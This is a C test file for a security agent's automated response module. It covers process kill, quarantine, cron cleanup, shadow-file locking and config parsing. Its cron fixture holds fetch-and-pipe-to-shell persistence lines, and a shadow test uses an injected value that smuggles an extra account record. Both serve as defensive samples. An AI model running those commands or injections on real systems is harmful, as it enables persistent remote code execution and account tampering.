/* test_respond.c - agent/respond.c: durations, the beneath-open (symlink
 * and ".." refusals), refusals of mm_respond_do, automatic response
 * rules (mm_respond_auto: matching, targets from the finding, dry-run vs
 * act, off by default) against real child processes and files, and the
 * config file's respond: section. Each test works in its own temp dir. */
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "agent/respond.h"
#include "config/config.h"
#include "core/buf.h"
#include "core/ip.h"
#include "finding/finding.h"
#include "mmtest.h"

static char dir[256];

static void mkdirs(const char *sub)
{
	char b[512];
	char *p;
	snprintf(b, sizeof(b), "%s/%s", dir, sub);
	for (p = b + strlen(dir) + 1; (p = strchr(p, '/')); p++) {
		*p = '\0';
		mkdir(b, 0755);
		*p = '/';
	}
	mkdir(b, 0755);
}

static void writef(const char *sub, const char *text)
{
	char b[512];
	FILE *f;
	snprintf(b, sizeof(b), "%s/%s", dir, sub);
	f = fopen(b, "w");
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

static char db[300], audit[300], root[300];

static int rm1(const char *p, const struct stat *sb, int flag, struct FTW *ftw)
{
	return remove(p) ? 0 : 0;
}

/* the test's temp dir, removed at the end of each test */
static void cleanup(void)
{
	if (dir[0])
		nftw(dir, rm1, 16, FTW_DEPTH | FTW_PHYS);
}

static void setup(struct mm_respond_opts *o)
{
	snprintf(dir, sizeof(dir), "/tmp/mm-respond-XXXXXX");
	if (!mkdtemp(dir))
		mmtest_skip("no temp dir");
	snprintf(db, sizeof(db), "%s/m.db", dir);
	snprintf(audit, sizeof(audit), "%s/audit.log", dir);
	snprintf(root, sizeof(root), "%s/root", dir);
	mkdirs("root/tmp/.gitlab");
	memset(o, 0, sizeof(*o));
	o->db = db;
	o->audit_log = audit;
	o->root = root;
	o->out = fopen("/dev/null", "w");
}

static int audit_lines(void)
{
	FILE *f = fopen(audit, "r");
	int n = 0, c;
	if (!f)
		return 0;
	while ((c = fgetc(f)) != EOF)
		n += c == '\n';
	fclose(f);
	return n;
}

static pid_t child(void)
{
	pid_t p = fork();
	if (p == 0) {
		for (;;)
			pause();
	}
	return p;
}

/* 1 when p has exited (reaped here) */
static int gone(pid_t p)
{
	int st, i;
	for (i = 0; i < 100; i++) {
		if (waitpid(p, &st, WNOHANG) == p)
			return 1;
		usleep(20000);
	}
	return 0;
}

MM_TEST(durations)
{
	int64_t s = 0;
	CHECK_EQ_INT(mm_respond_parse_duration("1h", &s), 0);
	CHECK_EQ_INT(s, 3600);
	CHECK_EQ_INT(mm_respond_parse_duration("30m", &s), 0);
	CHECK_EQ_INT(s, 1800);
	CHECK_EQ_INT(mm_respond_parse_duration("90", &s), 0);
	CHECK_EQ_INT(s, 90);
	CHECK_EQ_INT(mm_respond_parse_duration("2d", &s), 0);
	CHECK_EQ_INT(s, 172800);
	CHECK(mm_respond_parse_duration("1w", &s) != 0);
	CHECK(mm_respond_parse_duration("-1h", &s) != 0);
	CHECK(mm_respond_parse_duration("400d", &s) != 0);
	CHECK(mm_respond_parse_duration("", &s) != 0);
	CHECK(mm_respond_parse_duration("h", &s) != 0);
}

MM_TEST(open_beneath_refuses_symlinks_and_dotdot)
{
	struct mm_respond_opts o;
	char b[512];
	int rfd, fd;
	setup(&o);
	writef("root/tmp/file", "x");
	snprintf(b, sizeof(b), "%s/root/tmp/file", dir);
	CHECK(symlink(b, (snprintf(b, sizeof(b), "%s/root/tmp/link", dir), b)) == 0);
	CHECK(symlink("/etc", (snprintf(b, sizeof(b), "%s/root/tmp/etc", dir), b)) == 0);
	rfd = open(root, O_RDONLY | O_DIRECTORY);
	CHECK(rfd >= 0);
	fd = mm_respond_open_beneath(rfd, "/tmp/file", O_RDONLY, 0);
	CHECK(fd >= 0);
	if (fd >= 0)
		close(fd);
	CHECK_EQ_INT(mm_respond_open_beneath(rfd, "/tmp/link", O_RDONLY, 0), -ELOOP);
	fd = mm_respond_open_beneath(rfd, "/tmp/etc/passwd", O_RDONLY, 0);
	CHECK(fd == -ELOOP || fd == -ENOTDIR);
	fd = mm_respond_open_beneath(rfd, "/tmp/../../etc/passwd", O_RDONLY, 0);
	CHECK(fd == -EXDEV);
	close(rfd);
	cleanup();
}

MM_TEST(refusals_are_recorded)
{
	struct mm_respond_opts o;
	struct mm_err err;
	char id[MM_RESPOND_ID_LEN + 1], self[32];
	const char *one[] = {"1"}, *me[] = {self}, *bad[] = {"12x"}, *rootu[] = {"root"};
	setup(&o);
	o.yes = 1;
	CHECK_EQ_INT(mm_respond_do(&o, MM_RESPOND_KILL, one, 1, id, &err), MM_EINVAL);
	CHECK(strstr(err.msg, "pid 1") != NULL);
	snprintf(self, sizeof(self), "%d", (int)getpid());
	CHECK_EQ_INT(mm_respond_do(&o, MM_RESPOND_KILL, me, 1, id, &err), MM_EINVAL);
	CHECK(strstr(err.msg, "this agent") != NULL);
	CHECK_EQ_INT(mm_respond_do(&o, MM_RESPOND_KILL, bad, 1, id, &err), MM_EINVAL);
	mkdirs("root/etc");
	writef("root/etc/passwd", "root:x:0:0:root:/root:/bin/sh\n");
	writef("root/etc/shadow", "root:$6$x:19000:0:99999:7:::\n");
	CHECK_EQ_INT(mm_respond_do(&o, MM_RESPOND_LOCK_USER, rootu, 1, id, &err), MM_EINVAL);
	CHECK(strstr(err.msg, "--force") != NULL);
	CHECK_EQ_INT(audit_lines(), 4);
	CHECK_EQ_INT(mm_respond_do(&o, MM_RESPOND_KILL, one, 2, id, &err), MM_EINVAL); /* usage: not recorded */
	CHECK_EQ_INT(audit_lines(), 4);
	cleanup();
}

static void miner_finding(struct mm_finding *f, pid_t pid, const char *exe)
{
	memset(f, 0, sizeof(*f));
	snprintf(f->id, sizeof(f->id), "0123456789abcdef0123456789abcdef");
	snprintf(f->type, sizeof(f->type), "Impact:Runtime/CryptoMinerExecuted");
	f->res_type = MM_RES_RUNTIME;
	f->proc.pid = pid;
	snprintf(f->proc.exe, sizeof(f->proc.exe), "%s", exe);
	snprintf(f->proc.user, sizeof(f->proc.user), "git");
}

MM_TEST(auto_off_by_default_and_dry_run)
{
	struct mm_respond_opts o;
	struct mm_respond_rules rr;
	struct mm_finding f;
	struct mm_err err;
	pid_t p;
	setup(&o);
	p = child();
	miner_finding(&f, p, "/tmp/.gitlab/kthreaddw");
	memset(&rr, 0, sizeof(rr));
	rr.nrules = 1;
	snprintf(rr.rule[0].type, sizeof(rr.rule[0].type), "Impact:Runtime/*");
	rr.rule[0].action = MM_RESPOND_KILL;
	CHECK_EQ_INT(mm_respond_auto(NULL, &f, &o, &err), 0);
	CHECK_EQ_INT(mm_respond_auto(&rr, &f, &o, &err), 0); /* not enabled */
	CHECK_EQ_INT(audit_lines(), 0);
	rr.enabled = 1;	/* mode dry-run: recorded, nothing done */
	o.yes = 1;	/* ignored: the rules' mode decides */
	CHECK_EQ_INT(mm_respond_auto(&rr, &f, &o, &err), 1);
	CHECK_EQ_INT(audit_lines(), 1);
	CHECK(kill(p, 0) == 0);
	kill(p, SIGKILL);
	waitpid(p, NULL, 0);
	cleanup();
}

MM_TEST(auto_acts_on_matching_findings)
{
	struct mm_respond_opts o;
	struct mm_respond_rules rr;
	struct mm_finding f;
	struct mm_err err;
	char b[512];
	struct stat sb;
	pid_t p;
	setup(&o);
	writef("root/tmp/.gitlab/kthreaddw", "miner");
	p = child();
	miner_finding(&f, p, "/tmp/.gitlab/kthreaddw");
	memset(&rr, 0, sizeof(rr));
	rr.enabled = 1;
	rr.act = 1;
	rr.nrules = 4;
	snprintf(rr.rule[0].type, sizeof(rr.rule[0].type), "Impact:Runtime/CryptoMinerExecuted");
	rr.rule[0].action = MM_RESPOND_KILL;
	snprintf(rr.rule[1].type, sizeof(rr.rule[1].type), "Impact:Runtime/*");
	rr.rule[1].action = MM_RESPOND_QUARANTINE;
	snprintf(rr.rule[2].type, sizeof(rr.rule[2].type), "Backdoor:Runtime/C&CActivity.B");
	rr.rule[2].action = MM_RESPOND_KILL;	/* other type: not applied */
	snprintf(rr.rule[3].type, sizeof(rr.rule[3].type), "Impact:Runtime/*");
	rr.rule[3].action = MM_RESPOND_BLOCK;	/* no remote IP in the finding: skipped */
	o.grace_ms = 1000;
	CHECK_EQ_INT(mm_respond_auto(&rr, &f, &o, &err), 2);
	CHECK(gone(p));
	snprintf(b, sizeof(b), "%s/root/tmp/.gitlab/kthreaddw", dir);
	CHECK(lstat(b, &sb) != 0);	/* quarantined */
	snprintf(b, sizeof(b), "%s/root/var/lib/mamori/quarantine/manifest.jsonl", dir);
	CHECK(stat(b, &sb) == 0);
	CHECK_EQ_INT(audit_lines(), 2);
	/* a finding of another type does nothing */
	snprintf(f.type, sizeof(f.type), "Execution:Runtime/NewBinaryExecuted");
	CHECK_EQ_INT(mm_respond_auto(&rr, &f, &o, &err), 0);
	CHECK_EQ_INT(audit_lines(), 2);
	cleanup();
}

MM_TEST(config_respond_section)
{
	static const char y[] = "respond:\n  enabled: true\n  mode: act\n  rules:\n"
				"    - {type: \"Impact:Runtime/*\", action: kill}\n"
				"    - {type: \"Backdoor:Runtime/C&CActivity.B\", action: block, for: 1h}\n";
	static const char bad1[] = "respond:\n  rules:\n    - {type: x, action: remove-cron}\n";
	static const char bad2[] = "respond:\n  rules:\n    - {type: x, action: kill, for: 1h}\n";
	static const char bad3[] = "respond:\n  mode: maybe\n";
	struct mm_config *cfg = NULL;
	const struct mm_respond_rules *rr;
	struct mm_err err;
	CHECK_EQ_INT(mm_config_load_mem(&cfg, "t.yaml", y, sizeof(y) - 1, &err), 0);
	rr = mm_config_respond(cfg);
	CHECK(rr != NULL);
	if (rr) {
		CHECK_EQ_INT(rr->enabled, 1);
		CHECK_EQ_INT(rr->act, 1);
		CHECK_EQ_INT(rr->nrules, 2);
		CHECK_EQ_INT(rr->rule[0].action, MM_RESPOND_KILL);
		CHECK_EQ_INT(rr->rule[1].action, MM_RESPOND_BLOCK);
		CHECK_EQ_INT(rr->rule[1].block_s, 3600);
		CHECK_EQ_STR(rr->rule[1].type, "Backdoor:Runtime/C&CActivity.B");
	}
	mm_config_free(cfg);
	cfg = NULL;
	CHECK_EQ_INT(mm_config_load_mem(&cfg, "t.yaml", "", 0, &err), 0);
	CHECK(mm_config_respond(cfg) == NULL);	/* no section: off */
	mm_config_free(cfg);
	CHECK(mm_config_respond(NULL) == NULL);
	cfg = NULL;
	CHECK_EQ_INT(mm_config_load_mem(&cfg, "t.yaml", bad1, sizeof(bad1) - 1, &err), MM_EINVAL);
	CHECK(strstr(err.msg, "remove-cron") != NULL);
	CHECK_EQ_INT(mm_config_load_mem(&cfg, "t.yaml", bad2, sizeof(bad2) - 1, &err), MM_EINVAL);
	CHECK_EQ_INT(mm_config_load_mem(&cfg, "t.yaml", bad3, sizeof(bad3) - 1, &err), MM_EINVAL);
}

MM_TEST(cron_filter_and_merge_round_trip)
{
	static const char cron[] = "# DO NOT EDIT\n*/5 * * * * wget -q -O - http://x/gi.sh | bash\n"
				   "0 3 * * * /backup \xb9\xff\n@reboot curl http://x/gi.sh|sh";
	struct mm_buf kept, rem, back;
	size_t nrem = 0;
	mm_buf_init(&kept, 1 << 20);
	mm_buf_init(&rem, 1 << 20);
	mm_buf_init(&back, 1 << 20);
	CHECK_EQ_INT(mm_respond_cron_filter(cron, sizeof(cron) - 1, "gi.sh", &kept, &rem, &nrem, NULL), 0);
	CHECK_EQ_INT(nrem, 2);
	CHECK_EQ_STR(kept.p, "# DO NOT EDIT\n0 3 * * * /backup \xb9\xff\n");
	CHECK(strstr(rem.p, "\"line\":1,") != NULL);
	CHECK(strstr(rem.p, "\"line\":3,") != NULL);
	CHECK_EQ_INT(mm_respond_cron_merge(kept.p, kept.len, rem.p, rem.len, &back, NULL), 0);
	CHECK_EQ_INT(back.len, sizeof(cron) - 1);
	CHECK(back.p && memcmp(back.p, cron, sizeof(cron) - 1) == 0);
	/* a line that is not UTF-8 comes back byte for byte */
	mm_buf_reset(&rem);
	CHECK_EQ_INT(mm_respond_cron_filter(cron, sizeof(cron) - 1, "/backup", &kept, &rem, &nrem, NULL), 0);
	CHECK(strstr(rem.p, "\"hex\":") != NULL);
	CHECK_EQ_INT(mm_respond_cron_merge(kept.p, kept.len, rem.p, rem.len, &back, NULL), 0);
	CHECK(back.len == sizeof(cron) - 1 && memcmp(back.p, cron, back.len) == 0);
	/* a malformed record is refused, not half-applied */
	CHECK_EQ_INT(mm_respond_cron_merge(kept.p, kept.len, "[{\"line\":-1,\"text\":\"x\"}]", 25, &back, NULL),
		     MM_EPARSE);
	CHECK_EQ_INT(mm_respond_cron_merge(kept.p, kept.len, "{}", 2, &back, NULL), MM_EPARSE);
	mm_buf_free(&kept);
	mm_buf_free(&rem);
	mm_buf_free(&back);
}

MM_TEST(shadow_edit_lock_unlock_and_injection)
{
	static const char sh[] = "root:$6$r:19000:0:99999:7:::\ngit:$6$g:19000:0:99999:7::20000:\n"
				 "gitlab:$6$l:19000:0:99999:7:::\n";
	struct mm_buf a, b;
	char e1[32], e2[32];
	int was = -1, was2 = -1;
	mm_buf_init(&a, 1 << 16);
	mm_buf_init(&b, 1 << 16);
	CHECK_EQ_INT(mm_respond_shadow_edit(sh, sizeof(sh) - 1, "git", 1, "1", &was, e1, sizeof(e1), &a), 0);
	CHECK_EQ_INT(was, 0);
	CHECK_EQ_STR(e1, "20000");
	CHECK_EQ_STR(a.p, "root:$6$r:19000:0:99999:7:::\ngit:!$6$g:19000:0:99999:7::1:\n"
			  "gitlab:$6$l:19000:0:99999:7:::\n");
	CHECK_EQ_INT(mm_respond_shadow_edit(a.p, a.len, "git", -1, e1, &was2, e2, sizeof(e2), &b), 0);
	CHECK_EQ_INT(was2, 1);
	CHECK_EQ_STR(b.p, sh);
	CHECK_EQ_INT(mm_respond_shadow_edit(sh, sizeof(sh) - 1, "gi", 1, "1", &was, e1, sizeof(e1), &a),
		     MM_ENOTFOUND);
	/* an expire value that is not a day number (a tampered record) is never written */
	CHECK_EQ_INT(mm_respond_shadow_edit(sh, sizeof(sh) - 1, "git", 0, "1\nevil::0:0", &was, e1,
					    sizeof(e1), &a), MM_EINVAL);
	mm_buf_free(&a);
	mm_buf_free(&b);
}
